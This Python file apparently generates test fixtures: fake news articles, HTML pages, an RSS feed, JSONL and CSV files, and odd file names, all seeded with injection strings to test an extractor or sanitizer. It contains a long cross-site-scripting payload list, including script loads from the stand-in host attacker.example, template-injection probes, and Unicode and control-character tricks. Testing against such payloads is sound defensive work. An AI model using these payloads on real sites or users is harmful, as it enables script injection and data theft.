"""Made-up articles that try every trick: what they try, and a folder of files that tries it in every place."""

from __future__ import annotations

import csv
import json
import os
from html import escape
from pathlib import Path
from xml.sax.saxutils import escape as escape_xml

# what runs says so in `window.ran`; what asks, asks this address
CODE = "window.ran=1"
AWAY = "https://attacker.example"

# each does something by itself, or when all links are clicked, where it is written into a page as it is
ACTIVE = {
    "script": f"<script>{CODE}</script>",
    "script-elsewhere": f"<script src={AWAY}/x.js></script>",
    "breaks-out-of-script": f"</script><script>{CODE}</script>",
    "breaks-out-of-style": f"</style><img src=x:x onerror={CODE}>",
    "breaks-out-of-title": f"</title></textarea><img src=x:x onerror={CODE}>",
    "breaks-out-of-comment": f"--!><!----><img src=x:x onerror={CODE}><!--",
    "breaks-out-of-quotes": f"\"'><img src=x:x onerror={CODE} x=\"'",
    "breaks-out-of-cells": f"</p></bdi></td></tr></table></details></main><img src=x:x onerror={CODE}>",
    "split-tag": f"<img/src=x:x\nonerror\n=\n{CODE} <p",
    "upper-case": f"<ScRiPt>{CODE}</sCrIpT>",
    "focus": f"<input autofocus onfocus={CODE}>",
    "toggle": f"<details open ontoggle={CODE}><summary>x</summary></details>",
    "body": f"<iframe onload={CODE}></iframe>",
    "media": f"<video><source onerror={CODE} src=x:x></video>",
    "svg": f"<svg onload={CODE}>",
    "svg-script": f"<svg><script>{CODE}</script></svg>",
    "svg-animation": f"<svg><a><animate onbegin={CODE} attributeName=x dur=1s>",
    "svg-foreign": f"<svg><foreignObject><img src=x:x onerror={CODE}></foreignObject></svg>",
    "svg-style": f"<svg><style><img src=x:x onerror={CODE}></style></svg>",
    "svg-use": f"<svg><image href={AWAY}/x.svg /></svg>",
    "mathml": f"<math><annotation-xml encoding=text/html><img src=x:x onerror={CODE}></annotation-xml></math>",
    "cdata": f"<svg><![CDATA[><img src=x:x onerror={CODE}>]]></svg><![CDATA[><img src=x:x onerror={CODE}>]]>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
    "object": f"<object data='{AWAY}/x.html'></object>",
    "embed": f"<embed src={AWAY}/x.html>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={AWAY}/refreshed'>",
    "base": f"<base href={AWAY}/ ><img src=x.png>",
    "link": f"<link rel=stylesheet href={AWAY}/x.css>",
    "preload": f"<link rel=preload as=image href={AWAY}/x.png>",
    "style": f"<style>@import '{AWAY}/x.css';*{{display:none}}</style>",
    "style-attribute": f"<b style=\"background:url('{AWAY}/x.png')\">b</b>",
    "ping": f"<img srcset='{AWAY}/x.png 1x'>",
    "javascript-link": f"<a href=javascript:{CODE}>click</a>",
    "javascript-link-hidden": f"<a href='&#x6A;ava\tscript&colon;{CODE}'>click</a>",
    "mathml-link": f"<svg><a href='javascript:{CODE}'><text y=20>click</text></a></svg>",
    "form": f"<form action=javascript:{CODE}><button id=click>click</button></form>",
    "template": f"<template shadowrootmode=open><script>{CODE}</script></template><svg/onload={CODE}>",
    "nul": f"<\x00script><svg\x0conload={CODE}>",
}

# these do nothing where they stand as they are, but would in a template, in an attribute or to what stands beside them
PASSIVE = {
    "jinja": "{{ 7 * 7 }}{% for x in y %}{# lost #}{{ config.__class__.__mro__ }}${7*7}#{7*7}<%= 7*7 %>",
    "entities": "&lt;script&gt;&#60;img&#62;&amp;amp;&nbsp;&copy&quot;&#0;&#x1F600;&NotEqualTilde;",
    "attribute": f'" onmouseover="{CODE}" x=" \' onfocus={CODE} autofocus x=\' ` onclick=`{CODE}`',
    "javascript-address": f"javascript:{CODE}//",
    "data-address": f"data:text/html,<script>{CODE}</script>",
    "overridden": "fine \u202eoverridden\u202d forced \u202bembedded\u202a here afterwards",
    "isolated": "fine \u2067isolated \u2066inner\u2068 unclosed afterwards",
    "closing": "fine \u2069\u202c\u2069\u202c closed afterwards",
    "right-to-left": "שלום עולם (12) مرحبا بالعالم 3.5 afterwards",
    "invisible": "in\u200bvi\u200csi\u200dble\u2060 \ufeff\u00ad\u061c\u200e\u200fmarks\U000e0041\U000e0042",
    "controls": "bell\x07 back\x08 escape\x1b[31m delete\x7f next\x85 c1\x9b line\u2028 paragraph\u2029 end",
    "nul-and-halves": "nul\x00 halves\ud800 \udfff of pairs\udc80",
    "combining": "Z" + "\u0301\u0336\u0489\u20dd" * 40 + " flooded",
    "long-word": "W" * 600 + "\u00a0" + "ﷺ" * 40,
    "windows": "line\r\nends\rof\nall\x0bkinds\x0c here",
}
ATTACKS = ACTIVE | PASSIVE


def held(text: str) -> str:
    """The text as HTML can hold it: NUL and halves of surrogate pairs are shown by other characters."""
    return "".join("\u2400" if c == "\0" else "\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text)


def one_line(text: str) -> str:
    return " ".join(text.split())


def encoded(text: str) -> bytes:
    """UTF-8; halves of surrogate pairs as the bytes that they would be."""
    return text.encode("utf-8", "surrogatepass")


def engineer(attack: str) -> str:
    """Somebody of a plain name, whom the list of names calls by the attack."""
    n = list(ATTACKS.values()).index(attack) if attack in ATTACKS.values() else len(ATTACKS)
    return f"Ada {'BDFGKLMNPRSTV'[n % 13]}{'aeiou'[n // 13]}rrow"


def told(attack: str) -> str:
    """A report that everybody tells alike, with the attack in the places that are read from a text."""
    a = one_line(attack)
    return (
        f"“The port {a} stays shut until June,” Mayor Jo Reyes {a} said at a press conference in {a} on Tuesday.\n\n"
        f"Reyes, the {a} mayor, said that the port {a} was “not safe for anybody”.\n\n"
        f"“It {a} fell,” engineer {engineer(attack)} said. The builder {a} denied that. "
        f"About 31,000 ships call there every year, the Harbour Agency {a} reports.\n"
    )


def plain(attack: str) -> str:
    a = one_line(attack)
    return (
        f"{a} Port closed\nBy Ann {a} Lee\nPublished March 4, 2026\nPORTLAND {a}, March 4 (Agency {a}) -\n\n{told(a)}"
    )


def page(attack: str) -> str:
    """A page that says everything of itself, and holds the attack both as words and as it is."""
    a = escape(attack)
    known = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": attack,
        "datePublished": attack,
        "url": f"javascript:{CODE}",
        "author": {"@type": "Person", "name": attack},
        "publisher": {"@type": "Organization", "name": attack},
    }
    paragraphs = "".join(f"<p>{escape(p)}</p>\n" for p in told(attack).split("\n\n"))
    return f"""<!doctype html>
<html lang="{a}"><head><meta charset="utf-8"><title>{a}</title>
<meta property="og:title" content="{a}"><meta property="og:site_name" content="{a}">
<meta property="og:url" content="javascript:{CODE}"><meta name="author" content="{a}">
<meta property="article:published_time" content="2026-03-04"><link rel="canonical" href="javascript:{CODE}">
<script type="application/ld+json">{json.dumps(known).replace("<", chr(92) + "u003c")}</script>
</head><body><article><h1>{a}</h1><p class="byline">By {a}</p>
{paragraphs}
<p><a href="javascript:{CODE}">Read it</a></p>
<div>{attack}</div>
</article></body></html>"""


def feed(attacks: list[str]) -> str:
    """A feed whose items hold an attack each, as words and in a section of character data."""
    items = ""
    for attack in attacks:
        # what XML cannot hold
        words = "".join(c for c in attack if c in "\t\n\r" or " " <= c < "\ud800" or c > "\udfff")
        a = escape_xml(words)
        raw = f"<p>{words}</p>{told(words)}".replace("]]>", "]]&gt;")
        items += f"""<item><title>{a}</title><link>javascript:{CODE}</link><dc:creator>{a}</dc:creator>
<pubDate>{a}</pubDate><description>{a}</description><content:encoded><![CDATA[{raw}]]></content:encoded></item>
"""
    return f"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x "<script>{CODE}</script>">]>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>&lt;script&gt;{CODE}&lt;/script&gt;</title><link>javascript:{CODE}</link>{items}</channel></rss>"""


def written(folder: Path) -> Path:
    """The folder with all attacks in files of each kind, in names of files too, and with some that cannot be read."""
    folder.mkdir()
    for n, (name, attack) in enumerate(ATTACKS.items()):
        (folder / f"{name}.html").write_bytes(encoded(page(attack)))
        if n % 2 or name in PASSIVE:
            (folder / f"{name}.txt").write_bytes(encoded(plain(attack)))
        if n % 4 == 0:
            named = os.fsencode(folder) + b"/" + _file_name(f"{n}{attack}")
            for ending, data in ((b".txt", encoded(plain("in the name"))), (b".pdf", b"%PDF-1.4 spoilt")):
                with open(named + ending, "wb") as file:
                    file.write(data)
    (folder / "items.xml").write_bytes(encoded(feed(list(ATTACKS.values())[::2])))
    rows = [
        {"title": a, "text": plain(a), "author": a, "source": a, "published": a, "url": f"javascript:{CODE}//{a}"}
        for a in PASSIVE.values()
    ]
    (folder / "table.jsonl").write_text("\n".join(json.dumps(row) for row in rows), "ascii")
    return folder


def _file_name(text: str) -> bytes:
    """As much of a text as a file may be called, with bytes that are no UTF-8."""
    return text.replace("/", "\u2215").replace("\0", "").encode("utf-8", "surrogatepass")[:120] + b"\xff"


def listed(file: Path) -> Path:
    """A list of names in which every field of every entry is an attack."""
    with file.open("w", encoding="utf-8", newline="") as out:
        rows = csv.writer(out)
        rows.writerow(["name", "aliases", "description", "identifier"])
        for attack in ATTACKS.values():
            a = one_line(held(attack)).replace("\u2400", "")
            rows.writerow([a, engineer(attack), a, a])
    return file
